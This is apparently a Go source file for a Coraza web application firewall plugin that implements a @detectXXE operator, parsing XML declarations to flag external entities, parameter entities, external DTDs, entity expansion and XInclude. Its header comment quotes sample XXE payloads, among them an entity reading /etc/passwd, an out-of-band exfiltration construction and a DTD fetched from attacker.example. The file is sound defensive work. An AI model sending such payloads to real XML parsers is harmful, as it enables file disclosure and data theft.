package waf

import (
	"fmt"
	"strings"

	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
)

// xxeOp is the operator @detectXXE: it reads the markup declarations of a value (a
// document type declaration and the entity declarations in its internal subset, as
// XML 1.0 section 2.8 and 4.2 write them) and matches when one of them does the thing
// its argument names, or any of them without an argument:
//
//	external-entity   an entity declared with an external identifier: <!ENTITY x SYSTEM "file:///etc/passwd">,
//	                  the parser reads the file or URL into the document (general or parameter entity)
//	parameter-entity  a parameter entity declaration: what out-of-band XXE builds on
//	                  (<!ENTITY % e "<!ENTITY &#x25; x SYSTEM 'http://...?%f;'>"> %e;); a request's XML has no use for one
//	external-dtd      a document type with an external subset the parser would fetch, other than a W3C DTD
//	                  (SVG and XHTML files name theirs on www.w3.org): <!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">
//	expansion         an entity whose value refers to other entities more than once: the billion laughs
//	xinclude          the XInclude namespace, bound to any prefix or given as an attribute's value: an
//	                  element in it makes a processor that supports XInclude read a file or URL, no DTD needed
//
// It captures the declaration as TX.0 and what it does (the argument's word) as TX.1.
// A regular expression cannot say "a system
// literal that is not on www.w3.org" without look-ahead, which RE2 lacks, nor count
// the references inside one entity's quoted value; hence an operator.
type xxeOp struct {
	kind xxeKind
}

type xxeKind int

const (
	xxeExternalEntity xxeKind = iota + 1
	xxeParameterEntity
	xxeExternalDTD
	xxeExpansion
	xxeXInclude
)

// xxeKinds are the kinds by name, in the order @detectXXE without an argument tries
// them.
var xxeKinds = []struct {
	name string
	kind xxeKind
}{
	{"external-entity", xxeExternalEntity},
	{"parameter-entity", xxeParameterEntity},
	{"external-dtd", xxeExternalDTD},
	{"expansion", xxeExpansion},
	{"xinclude", xxeXInclude},
}

func newXXEOp(o plugintypes.OperatorOptions) (plugintypes.Operator, error) {
	arg := strings.TrimSpace(o.Arguments)
	if arg == "" {
		return xxeOp{}, nil
	}
	for _, k := range xxeKinds {
		if k.name == arg {
			return xxeOp{kind: k.kind}, nil
		}
	}
	return nil, fmt.Errorf("detectXXE: want external-entity, parameter-entity, external-dtd, expansion, xinclude or nothing, got %q", o.Arguments)
}

func (op xxeOp) Evaluate(tx plugintypes.TransactionState, value string) bool {
	for _, k := range xxeKinds {
		if op.kind != 0 && k.kind != op.kind {
			continue
		}
		if decl, ok := findXXE(value, k.kind); ok {
			if tx.Capturing() {
				tx.CaptureField(0, decl)
				tx.CaptureField(1, k.name)
			}
			return true
		}
	}
	return false
}

var xincludeWord = newWordSet("XInclude")

// MayMatch: every declaration starts with "<!", and the XInclude namespace has
// "XInclude" (looked for in any case, as MayMatch must).
func (xxeOp) MayMatch(value string) bool {
	return strings.Contains(value, "<!") || xincludeWord.in(value)
}

// xincludeNamespace is XInclude's namespace name (XInclude 1.0, section 2).
const xincludeNamespace = "http://www.w3.org/2001/XInclude"

// findXInclude returns the XInclude namespace where it is bound: the whole value (an
// attribute value that XML://@* gives, or TX:sidewall_xml_xinclude) or an xmlns
// declaration in XML given as text.
func findXInclude(s string) (string, bool) {
	if strings.TrimSuffix(s, "/") == xincludeNamespace {
		return s, true
	}
	for off := 0; ; {
		i := strings.Index(s[off:], xincludeNamespace)
		if i < 0 {
			return "", false
		}
		i += off
		off = i + len(xincludeNamespace)
		// xmlns:prefix = "namespace": the quote, then back over blanks and '='.
		j := strings.TrimRight(s[:i], "\"'")
		if len(j) == i {
			continue
		}
		j = strings.TrimRight(strings.TrimRight(j, " \t"), "=")
		j = strings.TrimRight(j, " \t")
		if k := strings.LastIndexAny(j, " \t<"); strings.HasPrefix(j[k+1:], "xmlns") {
			return s[k+1 : off+1], true
		}
	}
}

// findXXE returns the first declaration in s that does what k names.
func findXXE(s string, k xxeKind) (string, bool) {
	if k == xxeXInclude {
		return findXInclude(s)
	}
	return findDecl(s, k, 0)
}

// maxNesting is how deep findDecl follows declarations inside entity values:
// out-of-band XXE nests one; more only costs time on a hostile value.
const maxNesting = 2

// findDecl is findXXE for the declarations of s, nested levels deep in entity values.
// It reads s once: each declaration is read up to its '>', or up to where it cannot go
// on (a '<' outside its literals, a DOCTYPE's internal subset), never to the end of s
// for each of many unclosed declarations.
func findDecl(s string, k xxeKind, nested int) (string, bool) {
	for i := 0; ; {
		j := strings.Index(s[i:], "<!")
		if j < 0 {
			return "", false
		}
		i += j
		rest := s[i:]
		switch {
		case strings.HasPrefix(rest, "<!DOCTYPE"):
			d := parseDecl(rest, len("<!DOCTYPE"))
			if k == xxeExternalDTD && d.system != "" && !w3cDTD(d.system) {
				return d.text, true
			}
			i += len("<!DOCTYPE") // the entities inside are found as the loop goes on
		case strings.HasPrefix(rest, "<!ENTITY"):
			d := parseDecl(rest, len("<!ENTITY"))
			switch {
			case k == xxeExternalEntity && d.external,
				k == xxeParameterEntity && d.parameter,
				k == xxeExpansion && entityRefs(d.value) >= 2:
				return d.text, true
			}
			// An entity's value may declare another (out-of-band XXE nests one in a
			// parameter entity's value, with its '%' written as &#x25;).
			if nested < maxNesting {
				if inner, ok := findDecl(d.value, k, nested+1); ok {
					return inner, true
				}
			}
			i += len(d.text)
		default:
			i += 2
		}
	}
}

// decl is what parseDecl reads of a markup declaration.
type decl struct {
	text      string // the declaration as written, up to its '>' (or the end of s)
	parameter bool   // <!ENTITY % name ...>
	external  bool   // has an external identifier: SYSTEM or PUBLIC
	system    string // the system literal of the external identifier
	value     string // an entity's literal value
}

// parseDecl reads the declaration that starts s, whose keyword ends at offset i:
// white space, names and keywords, and quoted literals. It is lenient, as parsers are:
// it reads what is there and stops at the '>' that ends the declaration, at a DOCTYPE's
// internal subset ('['; its external identifier comes before it, and findDecl finds
// the declarations inside as it goes on), or at a '<' outside a literal, which no
// declaration holds. So a declaration is never read past the next one.
func parseDecl(s string, i int) decl {
	var d decl
	var words []string // names and keywords outside quotes, in order
	var literals []string
	for i < len(s) {
		switch c := s[i]; {
		case c == '>':
			d.text = s[:i+1]
			return d.finish(words, literals)
		case c == '"' || c == '\'':
			end := strings.IndexByte(s[i+1:], c)
			if end < 0 {
				literals = append(literals, s[i+1:])
				i = len(s)
				continue
			}
			literals = append(literals, s[i+1:i+1+end])
			words = append(words, "") // a literal's place among the words
			i += end + 2
		case c == '[' || c == '<':
			d.text = s[:i]
			return d.finish(words, literals)
		case c == '%':
			d.parameter = true
			i++
		case isSpace(c):
			i++
		default:
			j := i
			for j < len(s) && !isSpace(s[j]) && strings.IndexByte(">\"'[%<", s[j]) < 0 {
				j++
			}
			words = append(words, s[i:j])
			i = j
		}
	}
	d.text = s
	return d.finish(words, literals)
}

// finish reads the external identifier and the value from the words and literals of
// a declaration: "name SYSTEM lit", "name PUBLIC lit lit", or "name lit".
func (d decl) finish(words, literals []string) decl {
	lit := 0 // literals taken
	for i, w := range words {
		switch w {
		case "SYSTEM":
			d.external = true
			if lit < len(literals) {
				d.system = literals[lit]
			}
			return d
		case "PUBLIC":
			d.external = true
			if lit+1 < len(literals) {
				d.system = literals[lit+1]
			}
			return d
		case "":
			if i >= 1 && d.value == "" && lit == 0 {
				d.value = literals[lit]
			}
			lit++
		}
	}
	return d
}

// w3cDTD reports whether a system literal is one of the W3C's published DTDs, which
// SVG and XHTML documents name and a parser either knows or fetches from the W3C.
func w3cDTD(system string) bool {
	for _, p := range []string{"http://www.w3.org/", "https://www.w3.org/"} {
		if strings.HasPrefix(system, p) {
			return true
		}
	}
	return false
}

// entityRefs counts the general entity references in an entity's value, "&name;",
// other than character references and the five predefined entities.
func entityRefs(v string) int {
	n := 0
	for {
		i := strings.IndexByte(v, '&')
		if i < 0 {
			return n
		}
		v = v[i+1:]
		j := strings.IndexByte(v, ';')
		if j <= 0 || j > 64 || v[0] == '#' {
			continue
		}
		switch name := v[:j]; name {
		case "amp", "lt", "gt", "quot", "apos":
		default:
			if !strings.ContainsAny(name, " \t\r\n&<>\"'") {
				n++
			}
		}
		v = v[j+1:]
	}
}

func isSpace(c byte) bool { return c == ' ' || c == '\t' || c == '\r' || c == '\n' }
